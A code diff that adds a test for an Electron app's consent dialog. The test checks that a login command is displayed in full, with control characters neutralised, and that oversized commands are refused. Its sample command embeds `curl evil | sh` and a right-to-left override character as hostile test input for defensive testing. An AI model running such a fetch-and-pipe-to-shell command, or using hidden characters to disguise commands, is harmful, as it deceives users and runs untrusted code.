@@ -9,7 +9,7 @@ vi.mock('electron', () => ({
     },
   },
 }))
-const { askConsent } = await import('../../../main/window/consent')
+const { askConsent, commandQuestion } = await import('../../../main/window/consent')
 const ask = (details: readonly string[]) => askConsent({} as never, { message: 'Add this?', details, agree: 'Add' })
 
 test('agreeing goes on; anything else, Enter and Escape too, refuses', async () => {
@@ -29,4 +29,16 @@ test("strangers' text can neither turn, hide nor fake a line, nor push the quest
   expect(detail.length).toBeLessThan(400)
   await ask(Array.from({ length: 500 }, (_, at) => `caution ${at}`))
   expect(place.shown.at(-1)!.detail.split('\n').at(-1)).toBe('And 488 more.')
+})
+
+test('a command is shown to its last character, or it is not asked about', async () => {
+  place.response = 1
+  const command = `login --url https://example.com/${'x'.repeat(2_000)} --exec 'curl evil | sh' \u202e\nend`
+  await askConsent({} as never, commandQuestion('prod', 'kubevirt:prod', command))
+  const { detail, message } = place.shown.at(-1)!
+  expect(message).toBe('Run this command to log in to prod?')
+  expect(detail.split('\n').slice(3).join('')).toBe(command.replace('\u202e\n', '\ufffd\ufffd'))
+  const before = place.shown.length
+  await expect(askConsent({} as never, commandQuestion('prod', 'kubevirt:prod', 'x'.repeat(100_000)))).rejects.toMatchObject({ failure: { code: 'denied' } })
+  expect(place.shown).toHaveLength(before)
 })
